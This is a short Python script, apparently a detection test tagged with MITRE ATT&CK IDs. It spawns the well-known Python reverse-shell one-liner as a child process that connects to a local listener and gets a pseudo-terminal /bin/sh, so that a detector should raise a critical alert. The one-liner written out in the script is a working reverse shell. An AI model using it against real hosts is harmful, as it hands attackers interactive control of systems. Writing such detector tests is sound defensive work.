# technique: T1059.006 T1059.004 T1095
"""The Python reverse-shell one-liner, run as `python -c` in a child (T1059.006, T1059.004, T1095).

The parent starts sys.executable -c with the well-known one-liner, written
with __import__ calls and no import statements: connect, dup2 the socket
onto 0/1/2 with a list comprehension, then pty.spawn("/bin/sh"). The
child is itself audited; the parent plays the operator.

A good detector raises a critical alert: a shell is spawned on a
pseudo-terminal by a process whose standard streams are a socket.
"""
import socket
import subprocess
import sys
import threading

listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(1)
listener.settimeout(4)
port = listener.getsockname()[1]
transcript = []


def operator():
    try:
        conn, _ = listener.accept()
    except OSError:
        return
    conn.settimeout(3)
    conn.sendall(b"echo pty-uid-$(id -u)\nexit\n")
    data = b""
    try:
        while True:
            chunk = conn.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    transcript.append(data)
    conn.close()


thread = threading.Thread(target=operator, daemon=True)
thread.start()
one_liner = (
    "s=__import__('socket').socket();s.connect(('127.0.0.1',%d));"
    "[__import__('os').dup2(s.fileno(),f) for f in(0,1,2)];"
    "__import__('pty').spawn('/bin/sh')" % port)
subprocess.run([sys.executable, "-c", one_liner], timeout=5, stdin=subprocess.DEVNULL)
thread.join(3)
print("operator transcript:", transcript)
